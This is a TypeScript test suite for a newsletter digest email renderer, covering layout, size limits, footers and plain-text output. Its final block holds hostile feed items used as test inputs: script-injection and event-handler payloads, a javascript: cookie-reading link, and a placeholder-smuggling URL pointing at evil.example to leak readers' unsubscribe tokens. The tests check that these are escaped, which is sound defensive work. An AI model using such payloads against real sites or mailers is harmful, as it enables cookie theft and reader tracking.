import { load } from "cheerio";
import { beforeAll, describe, expect, it } from "vitest";
import { renderDigest, type RenderedDigest } from "@tidings/core/digest/email";
import { personalise, placeholders } from "@tidings/core/email/personalise";
import { newsletter } from "@tidings/templates/newsletter";
import { digestInput, item, seedItems, themes } from "../support/digests.ts";

const unsubscribe = placeholders.unsubscribeUrl;
const roomy = { maxPerTheme: 30, maxItems: 30 };

describe("the digest email, 30 items from the seed feed", () => {
  const items = seedItems(30);
  let digest: RenderedDigest;
  beforeAll(async () => {
    digest = await renderDigest(digestInput(items, { limits: roomy }));
  });

  it("stays under 100 KB of HTML (Gmail clips at about 102 KB)", () => {
    expect(Buffer.byteLength(digest.html)).toBeLessThan(100 * 1024);
  });

  it("shows every item once, as a card with title link, source, date and thumbnail", () => {
    const $ = load(digest.html);
    expect($("a.card-title")).toHaveLength(30);
    for (const i of items) {
      const link = $("a.card-title").filter((_, a) => $(a).attr("href") === i.link);
      expect(link.text(), i.title).toBe(i.title);
    }
    expect($("p.card-meta").first().text()).toBe("South China Morning Post · Tue 19 May");
    const thumbs = $("img.card-thumb");
    expect(thumbs).toHaveLength(items.filter((i) => i.image).length);
    thumbs.each((_, img) => {
      expect($(img).attr("width")).toBe("96");
      expect($(img).attr("alt")).toBe("Photo: South China Morning Post");
    });
  });

  it("heads each non-empty theme's section with exactly the theme's name, in theme order", () => {
    const headings = load(digest.html)("h2.theme-heading")
      .map((_, h) => load(h).text())
      .get();
    expect(headings.length).toBeGreaterThan(3);
    expect(headings).toEqual(themes.filter((t) => headings.includes(t)));
    expect(load(digest.html)("h2.theme-heading").first().attr("id")).toBe("ai-chips-computing");
  });

  it("cuts summaries at a word boundary", () => {
    const $ = load(digest.html);
    $("p.card-summary").each((_, p) => {
      const text = $(p).text();
      expect(text.length).toBeLessThanOrEqual(220);
      const source = items.find((i) => i.summary.startsWith(text.slice(0, -1)))?.summary;
      expect(source, text).toBeDefined();
      // Either the whole summary, or cut where a word ends (only punctuation or space follows).
      if (text.endsWith("…") && !source!.endsWith("…")) expect(source!.slice(text.length - 1)).toMatch(/^[\s.,;:!?…-]/);
    });
  });

  it("has a header with the name and the week, and a preheader with the top headlines", () => {
    const $ = load(digest.html);
    expect($("h1.masthead-name").text()).toBe(newsletter.name);
    expect($("p.masthead-line").text()).toMatch(/^Week 20 · 11\s?–\s?17 May 2026$/);
    expect($("title").text()).toMatch(/^Tidings: Semiconductors · 11\s?–\s?17 May 2026$/);
    const preheader = $("body > div").first().text();
    expect(preheader).toContain(items[0]!.title);
    expect(preheader.split(" · ")).toHaveLength(3);
  });

  it("has a subject with the name, the week and the top headline", () => {
    expect(digest.subject).toMatch(
      /^Tidings: Semiconductors · 11\s?–\s?17 May 2026 · AMD CEO’s meeting with China’s vice-premier/,
    );
    expect(digest.subject.length).toBeLessThan(140);
  });

  it("has a footer with the reason, unsubscribe placeholder, view in browser and postal address", () => {
    const $ = load(digest.html);
    const footer = $("p.footer-text").text();
    expect(footer).toContain("You are receiving this because you subscribed");
    expect(footer).toContain("Tidings, 1 Example Street, Springfield");
    expect($("a.footer-link:contains('Unsubscribe')").attr("href")).toBe(unsubscribe);
    expect($("a.footer-link:contains('View in browser')").attr("href")).toBe(
      "https://tidings.example/digests/2026-W20",
    );
  });

  it("supports dark mode", () => {
    expect(digest.html).toContain('<meta name="color-scheme" content="light dark">');
    expect(digest.html).toMatch(/@media \(prefers-color-scheme: ?dark\)/);
  });

  it("has a plain-text part with every title and link, and the same footer", () => {
    for (const i of items) {
      expect(digest.text).toContain(i.title);
      expect(digest.text).toContain(i.link);
    }
    expect(digest.text).toContain(`Unsubscribe: ${unsubscribe}`);
    expect(digest.text).toContain("View in browser: https://tidings.example/digests/2026-W20");
    expect(digest.text).toContain("Tidings, 1 Example Street, Springfield");
    expect(digest.text).not.toMatch(/&amp;|&#|<\/?[a-z]/);
  });

  it("has a web edition without the reader's personal link", () => {
    const $ = load(digest.webHtml);
    expect($("a.card-title")).toHaveLength(30);
    expect(digest.webHtml).not.toContain(unsubscribe);
    expect($("a.footer-link:contains('Subscribe')").attr("href")).toBe("https://tidings.example/");
    expect($("p.footer-text").first().text()).toBe(
      "This is the web edition of Tidings: Semiconductors, a weekly email.",
    );
  });
});

describe("caps", () => {
  it("cuts sections to the caps, links to the rest on the web, and the web edition has them all", async () => {
    const ai = Array.from({ length: 5 }, (_, n) => item({ title: `AI accelerator news number ${n}` }));
    const memory = Array.from({ length: 3 }, (_, n) => item({ title: `DRAM prices update number ${n}` }));
    const digest = await renderDigest(digestInput([...ai, ...memory], { limits: { maxPerTheme: 3, maxItems: 4 } }));
    const $ = load(digest.html);
    expect($("a.card-title")).toHaveLength(4);
    const more = $("a.more-link");
    expect(more).toHaveLength(2);
    expect(more.first().text()).toBe("3 more in AI chips & computing on the web →");
    expect(more.first().attr("href")).toBe("https://tidings.example/digests/2026-W20#ai-chips-computing");
    expect(more.last().text()).toBe("1 more in Memory & storage on the web →");
    expect(digest.text).toContain(
      "3 more in AI chips & computing on the web: https://tidings.example/digests/2026-W20#ai-chips-computing",
    );
    const web = load(digest.webHtml);
    expect(web("a.card-title")).toHaveLength(8);
    expect(web("a.more-link")).toHaveLength(0);
  });

  it("shows fewer items when they would push the HTML past Gmail's clip", async () => {
    const long = (n: number) => `https://news.example/${"very-long-path-segment/".repeat(40)}${n}`;
    const items = Array.from({ length: 40 }, (_, n) =>
      item({
        title: `AI story ${n} ${"with a long headline ".repeat(8)}`,
        link: long(n),
        image: long(n),
        summary: "word ".repeat(100),
      }),
    );
    const digest = await renderDigest(digestInput(items, { limits: { maxPerTheme: 40, maxItems: 40 } }));
    expect(Buffer.byteLength(digest.html)).toBeLessThan(100 * 1024);
    const shown = load(digest.html)("a.card-title").length;
    expect(shown).toBeGreaterThan(5);
    expect(shown).toBeLessThan(40);
    expect(load(digest.html)("a.more-link").text()).toBe(`${40 - shown} more in AI chips & computing on the web →`);
  });
});

describe("hostile feed content", () => {
  const evil = item({
    title: `<script>alert("x")</script> "><img src=x onerror=alert(1)> {{unsubscribe_url}} {{{raw}}}`,
    link: "javascript:alert(document.cookie)",
    source: `<b>Evil</b> & "Co"`,
    summary: `</mj-text><mj-raw><script>alert(2)</script></mj-raw>`,
    image: "data:image/svg+xml,<svg onload=alert(3)>",
  });

  it("is escaped in the HTML, never linked unless http(s), never a placeholder", async () => {
    const digest = await renderDigest(digestInput([evil, item()]));
    const $ = load(digest.html);
    expect($("script")).toHaveLength(0);
    expect($("[onerror], [onload]")).toHaveLength(0);
    expect($("mj-raw, mj-text")).toHaveLength(0);
    expect($("img")).toHaveLength(0);
    const title = $(".card-title").filter((_, e) => $(e).text().includes("alert"));
    expect(title.is("span")).toBe(true);
    expect(title.text()).toBe(
      `<script>alert("x")</script> "><img src=x onerror=alert(1)> { {unsubscribe_url}} { { {raw}}}`,
    );
    expect($("p.card-meta").first().text()).toMatch(/^<b>Evil<\/b> & "Co" · /);
    expect($("a").filter((_, a) => ($(a).attr("href") ?? "").startsWith("javascript")).length).toBe(0);
    expect(digest.html.split(unsubscribe)).toHaveLength(2); // only the footer's
    expect(digest.text.split(unsubscribe)).toHaveLength(2);
    expect(digest.subject).not.toContain(unsubscribe);
  });

  it("cannot smuggle a placeholder in a link or a picture address to learn readers' links", async () => {
    const spy = item({
      link: "https://evil.example/track?u={{unsubscribe_url}}#{{unsubscribe_url}}",
      image: "https://evil.example/pixel.png?{{unsubscribe_url}}",
    });
    const digest = await renderDigest(digestInput([spy, item()]));
    const reader = personalise(digest, {
      unsubscribeUrl: "https://tidings.example/unsubscribe?token=SECRET",
      preferencesUrl: "https://tidings.example/preferences?token=OTHER",
    });
    const $ = load(reader.html);
    expect($("img.card-thumb").attr("src")).toBe("https://evil.example/pixel.png?%7B%7Bunsubscribe_url%7D%7D");
    expect($("a[href^='https://evil.example']").first().attr("href")).not.toContain("SECRET");
    expect(reader.html.split("SECRET")).toHaveLength(2); // the footer's link, nowhere else
    expect(reader.text.split("SECRET")).toHaveLength(2);
  });
});
